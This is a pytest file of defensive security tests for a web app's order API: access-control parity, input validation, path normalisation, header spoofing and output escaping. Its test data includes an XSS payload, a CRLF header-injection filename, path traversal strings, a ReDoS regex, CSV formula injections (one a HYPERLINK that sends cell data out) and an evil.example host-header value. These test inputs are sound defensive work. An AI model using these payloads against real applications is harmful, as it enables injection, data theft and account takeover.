"""Rules that hold for every address, value and header of a kind, not for one case of abuse.

The addresses come from the URL map and the REST routes: a new page or operation is tried as well.
"""

from __future__ import annotations

import csv
import io
import re
import shutil
import uuid
from pathlib import Path
from typing import Any

import pytest
import sqlalchemy as sa
from werkzeug.test import TestResponse

from generator.compile import compile_definitions
from runtime.flood import Flood
from runtime.web.rest_routes import ROUTES
from tests.access.branches import FOLDER
from tests.access.canaries import Filled, raw
from tests.access.counter import open_counter
from tests.access.test_attack_cases import MISSING, V1
from tests.access.test_canaries import PLACES, Worked, addresses, leaks, state
from tests.web.desk import PASSWORD, Desk, token

SIGNED = r"[\w-]{20,}\.[\w-]{6}\.[\w-]{27}"
"""What says when it was made: the token of a form."""


def without_ids(page: TestResponse) -> str:
    """Return what a page says, without what every request has of its own."""
    text = re.sub(r"[0-9a-f]{8}(?:-[0-9a-f]{4}){3}-[0-9a-f]{12}", "ID", page.text)
    text = re.sub(r'nonce="[^"]+"', "", text)
    text = re.sub(SIGNED, "TOKEN", text)
    # signed with the second in which the page was made
    text = re.sub(r'"X-CSRFToken": "[^"]+"', "", text)
    return text.replace(page.headers.get("X-Request-Id", "?"), "")


def leads_on(page: TestResponse) -> bool:
    """Return whether an answer only names another page, which answers for itself."""
    return page.status_code in {302, 303} and "<html" not in page.text.partition("</title>")[2]


def test_no_page_tells_a_record_out_of_reach_from_one_that_is_not_there(
    worked: Worked,
) -> None:
    here, filled, _ = worked
    browser, tried = here.browser("seller"), 0
    other = filled.records["order"][1]
    for _, address in addresses(worked, "GET"):
        if other not in address:
            continue
        hidden, missing = browser.get(address), browser.get(address.replace(other, MISSING))
        assert hidden.status_code == missing.status_code, address
        assert hidden.status_code == 404 or leads_on(hidden), address
        assert without_ids(hidden) == without_ids(missing), address
        tried += 1
    assert tried > 10


def test_no_operation_tells_a_record_out_of_reach_from_one_that_is_not_there(
    desk: tuple[Desk, Filled],
) -> None:
    here, filled = desk
    browser = here.browser("seller")
    csrf = token(browser.get("/preferences"))
    before, other = state(here, filled), filled.records["order"][1]
    bodies: dict[str, Any] = {
        "update": {"note": "x"},
        "comment": {"text": "x"},
        "edit_comment": {"text": "x"},
        "reveal": {"field": "tax_id", "reason": "to be found"},
    }
    for route, methods in ROUTES.items():
        if "{id}" not in route:
            continue
        for method, operation in methods.items():
            found = []
            for record in (other, MISSING):
                found.append(
                    browser.client.open(
                        f"/api/v1/order/{route.format(**PLACES, id=record)}",
                        method=method,
                        json=bodies.get(operation),
                        headers={"X-CSRF-Token": csrf, **V1},
                    )
                )
            assert found[0].status_code == found[1].status_code, (route, method)
            assert found[0].status_code in {204, 403, 404, 415, 422}, (route, method, found[0].text)
            assert without_ids(found[0]) == without_ids(found[1]), (route, method)
    assert state(here, filled) == before


def test_a_mixed_bulk_does_what_may_be_done_and_tells_nothing_of_the_rest(
    desk: tuple[Desk, Filled],
) -> None:
    here, filled = desk
    browser = here.browser("seller")
    csrf = token(browser.get("/preferences"))
    mine, other = filled.records["order"][:2]
    wish = {"operation": "update", "ids": [mine, other, MISSING], "values": {"tax_id": None}}
    answer = browser.client.post("/api/v1/order/bulk", json=wish, headers={"X-CSRF-Token": csrf})
    assert answer.status_code == 200, answer.text
    told = {one["id"]: {k: v for k, v in one.items() if k != "id"} for one in answer.json["data"]}
    assert told[other] == told[MISSING]
    rows = {str(row["id"]): row for row in raw(filled.shop.runtime, order_of(filled))}
    assert rows[other]["tax_id"] is not None


def test_who_holds_nothing_reaches_nothing_by_any_address(worked: Worked) -> None:
    here, filled, _ = worked
    browser = here.browser("norole")
    for endpoint, address in addresses(worked, "GET"):
        page = browser.get(address)
        if page.status_code < 400 and not leads_on(page) and not page.is_json:
            assert not any(f"/{one}/" in address for one in filled.records), (endpoint, address)
        assert leaks(page.text, frozenset(), filled) == [], address


def test_a_hidden_and_a_missing_record_cost_the_same_statements(
    desk: tuple[Desk, Filled], monkeypatch: pytest.MonkeyPatch
) -> None:
    here, filled = desk
    browser = here.browser("seller")
    assert browser.get("/api/v1/order?limit=1").status_code == 200
    # of many denials in a minute whoever administers is told, which costs a statement once
    monkeypatch.setattr(here.runtime, "denials", Flood())
    counts = []
    for record in (filled.records["order"][1], MISSING):
        sent: list[str] = []

        def note(_: Any, __: Any, statement: str, *___: Any, sent: list[str] = sent) -> None:
            sent.append(statement)

        engine = filled.shop.runtime.engine
        sa.event.listen(engine, "before_cursor_execute", note)
        try:
            assert browser.get(f"/api/v1/order/{record}").status_code == 404
        finally:
            sa.event.remove(engine, "before_cursor_execute", note)
        counts.append(sent)
    assert counts[0] == counts[1]


@pytest.mark.parametrize(
    "query",
    [
        *(f"limit={one}" for one in ("100000", "-1", "0", "abc", "1e2", "١٠", "1" + "0" * 20)),
        *(f"after={one}" for one in ("-1", "1" + "0" * 21, "e30", "eyJhIjoxfQ.x")),
        "number[in]=" + ",".join(f"N{one}" for one in range(501)),
        "&".join(f"number=N{one}" for one in range(60)),
        "q=" + "x" * 10_000,
        "number[regex]=(a%2B)%2B$",
        "number[matches]=x",
        "match=" + "(" * 500 + ")" * 500,
        "include=" + ",".join(["lines", "customer.store", "watchers.store"] * 40),
        "order=number",
        "where=1%3D1",
    ],
)
def test_what_is_too_much_or_means_nothing_is_refused_and_never_cut_down(
    desk: tuple[Desk, Filled], query: str
) -> None:
    here, _ = desk
    answer = here.browser("seller").get(f"/api/v1/order?{query}")
    assert (answer.status_code, answer.content_type) == (400, "application/problem+json")


TWISTED = {
    "total": ["1_000", "７", "1e9", "0x10", True, [1], {"amount": 1}, "1" * 40, "NaN", "Infinity",
              "1,5", "--1", "12.345"],
    "discount": ["1e-1", True, [], "Infinity"],
    "status": [0, True, ["draft"], "DRAFT", "paid "],
    "placed_on": ["2026-02-30", "24:00", "10000-01-01", 1_700_000_000, "2026-1-2", True],
    "note": ["a\u0000b", "\ud800", 7, ["x"], {"x": 1}, "x\u202ey"],
    "customer": [{"id": MISSING}, 1, True, "1", "../../etc"],
    "tags": ["x", [1], [["x"]], {"x": 1}],
    "lines": ["x", [1], {"id": 1}],
    "owner": ["kim", True, {"id": 1}, 2**63],
}  # fmt: skip


@pytest.mark.parametrize(
    ("name", "value"), [(name, one) for name, many in TWISTED.items() for one in many]
)
def test_a_value_of_another_form_is_refused_at_its_field(
    desk: tuple[Desk, Filled], name: str, value: Any
) -> None:
    here, filled = desk
    browser = here.browser("owner")
    csrf = token(browser.get("/preferences"))
    before = raw(filled.shop.runtime, order_of(filled))
    answer = browser.client.patch(
        f"/api/v1/order/{filled.records['order'][0]}",
        json={name: value},
        headers={"X-CSRF-Token": csrf, **V1},
    )
    assert answer.status_code in {400, 422}, answer.text
    if answer.status_code == 422:
        assert {one["field"].partition(".")[0] for one in answer.json["errors"]} == {name}
    assert raw(filled.shop.runtime, order_of(filled)) == before


@pytest.mark.parametrize(
    "address",
    [
        "//api//v1//order", "/api/v1/order/", "/API/v1/order", "/api/v1/Order", "/api/v1/order;x=1",
        "/api/v1/../v1/order", "/api/v1/%2e%2e/v1/order", "/api/v1/order%2f{other}",
        "/api/v1/order/{mine}%2f..%2f{other}", "/api/v1/order/{other}/", "/api/v1/order/{other}%00",
        "/api/v1/order/{OTHER}", "/order//{other}", "/order/{other}%20", "/order/./{other}",
    ],
)  # fmt: skip
def test_no_spelling_of_an_address_opens_more_than_the_plain_one(
    desk: tuple[Desk, Filled], address: str
) -> None:
    here, filled = desk
    mine, other = filled.records["order"][:2]
    for name in ("seller", "norole", ""):
        path = address.format(mine=mine, other=other, OTHER=other.upper())
        answer = here.browser(name).client.get(path)
        assert answer.status_code in {301, 302, 308, 400, 401, 403, 404}, (name, answer.status)
        hidden = {one.text for one in filled.canaries if one.record == other}
        assert not [one for one in hidden if one in answer.text]


@pytest.mark.parametrize("key", ["", "x" * 256, "a\tb", "ключ", " "])
def test_a_key_of_a_request_that_is_none_is_refused(desk: tuple[Desk, Filled], key: str) -> None:
    here, filled = desk
    browser = here.browser("owner")
    before = len(raw(filled.shop.runtime, order_of(filled)))
    headers = {"X-CSRF-Token": token(browser.get("/preferences")), "Idempotency-Key": key}
    body = {"number": f"K{uuid.uuid4().hex[:8]}"}
    answer = browser.client.post("/api/v1/order", json=body, headers=headers)
    assert answer.status_code == 400, answer.text
    assert len(raw(filled.shop.runtime, order_of(filled))) == before


def test_nobody_is_signed_in_by_a_foreign_form(desk: tuple[Desk, Filled]) -> None:
    here, _ = desk
    form = {"username": "seller", "password": PASSWORD}
    for more in (
        {},
        {"csrf_token": "made up"},
        {"csrf_token": token(here.browser("other").get("/"))},
    ):
        client = here.app.test_client()
        answer = client.post("/login/", data={**form, **more})
        assert answer.status_code in {400, 403}, more
        assert client.get("/api/v1/order").status_code == 401


def test_a_file_is_sent_whole_or_in_one_part_and_its_name_breaks_no_header(
    desk: tuple[Desk, Filled],
) -> None:
    here, filled = desk
    browser = here.browser("owner")
    mine = filled.records["order"][0]
    page = browser.get(f"/order/{mine}/edit")
    name = 'a"\r\nSet-Cookie: x=1;\u202efdp.exe.pdf'
    sent = browser.send(
        page, f"/order/{mine}/edit", paper__upload=(io.BytesIO(b"%PDF-1.4 " + b"x" * 500), name)
    )
    assert sent.status_code in {303, 422}
    for parts in ("bytes=0-,0-,0-" + ",0-" * 1000, "bytes=0-1,3-4", "bytes=9-1", "bytes=x"):
        answer = browser.client.get(f"/order/{mine}/files/paper", headers={"Range": parts})
        assert answer.status_code in {200, 206, 404, 416}
        assert "multipart/byteranges" not in answer.headers.get("Content-Type", "")
        assert "\n" not in answer.headers.get("Content-Disposition", "")
        assert answer.headers.get("Set-Cookie", "").partition("=")[0] in {"", "session"}
        assert answer.status_code in {404, 416} or len(answer.data) < 2000


def test_a_tenant_a_role_or_a_person_in_the_request_changes_nobodys_reach(
    desk: tuple[Desk, Filled],
) -> None:
    here, filled = desk
    plain = here.browser("seller").get("/api/v1/order?count=exact").json
    store = filled.records["store"][1]
    for name, value in {
        "X-Tenant": "2",
        "X-Forwarded-User": "owner",
        "X-Remote-User": "owner",
        "Remote-User": "owner",
        "X-User-Id": str(here.people["owner"]),
        "X-Roles": "owner",
        "X-Original-URL": "/api/v1/customer",
        "X-HTTP-Method-Override": "DELETE",
        "Cookie2": f"store={store}",
    }.items():
        answer = here.browser("seller").client.get(
            "/api/v1/order?count=exact", headers={name: value}
        )
        assert answer.json["data"] == plain["data"], name


def order_of(filled: Filled) -> Any:
    """Return the entity most attacks are about."""
    return filled.shop.runtime.app.entities["order"]


def test_nothing_is_reset_or_registered_without_signing_in(desk: tuple[Desk, Filled]) -> None:
    here, _ = desk
    client = here.app.test_client()
    known, unknown = ("owner@branches.example", "nobody@branches.example")
    for path in ("/reset", "/register", "/register/form", "/resetmypassword/form", "/forgot",
                 "/resetpassword/form", "/login/reset", "/api/v1/security/reset"):  # fmt: skip
        said = []
        for email in (known, unknown):
            answer = client.post(
                path, data={"email": email}, headers={"X-Forwarded-Host": "evil.example"}
            )
            assert answer.status_code in {302, 400, 401, 404, 405}, path
            assert "evil.example" not in answer.text + answer.headers.get("Location", "")
            said.append((answer.status_code, without_ids(answer)))
        assert said[0] == said[1], path


MARKUP = "<img src=x onerror=alert(1)>"


def test_what_a_picker_or_the_palette_answers_is_data_and_no_markup(
    desk: tuple[Desk, Filled],
) -> None:
    here, filled = desk
    store = filled.records["store"][0]
    values = {"code": f"M{uuid.uuid4().hex[:6]}", "name": MARKUP, "store": store}
    filled.shop.done("create", "customer", values)
    browser = here.browser("owner")
    for address in ("/customer/choices?q=img", "/search/palette?q=img", "/search?q=img",
                    "/order/new", "/customer/?q=img"):  # fmt: skip
        page = browser.get(address)
        assert page.status_code < 500, address
        is_data = page.content_type.startswith("application/json")
        assert is_data or MARKUP not in page.text, address
        assert page.headers["X-Content-Type-Options"] == "nosniff"


def test_an_export_has_one_row_for_each_record_whatever_stands_in_it(
    desk: tuple[Desk, Filled],
) -> None:
    here, filled = desk
    texts = ["a;b,c\"d\r\n1,2,3,fake", "sep=;", "=HYPERLINK(\"http://e?\"&A1)", "＝1+1", "\t=1",
             "@SUM(A1)", "+1+1"]  # fmt: skip
    mark = uuid.uuid4().hex[:6]
    for number, text in enumerate(texts):
        filled.shop.done("create", "order", {"number": f"X{mark}{number}", "note": text})
    address = f"/api/v1/order/export?format=csv&fields=note&number[starts_with]=X{mark}"
    answer = here.browser("owner").get(address)
    rows = list(csv.reader(io.StringIO(answer.data.decode("utf-8-sig"))))
    assert len(rows) == len(texts) + 1
    assert len({len(row) for row in rows}) == 1
    assert not [cell for row in rows for cell in row if cell[:1] in set("=@\t\r＝＋＠")]


def test_a_label_of_the_definitions_is_shown_as_text(tmp_path: Path) -> None:
    """Whoever writes definitions writes words, not pages."""
    folder = tmp_path / "definitions"
    shutil.copytree(FOLDER, folder)
    order = folder / "trade" / "order.entity.yaml"
    text = order.read_text("utf-8")
    order.write_text(text.replace("Tax id", MARKUP).replace("{en: Order,", f"{{en: '{MARKUP}',"))
    found = compile_definitions(folder)
    opened = open_counter(tmp_path, found)[0]
    browser = opened.browser("owner")
    for address in ("/order/", "/order/new", "/permissions/", "/", "/roles/seller", "/audit/"):
        page = browser.get(address)
        assert page.status_code == 200
        assert MARKUP not in page.text, address
    opened.runtime.engine.dispose()
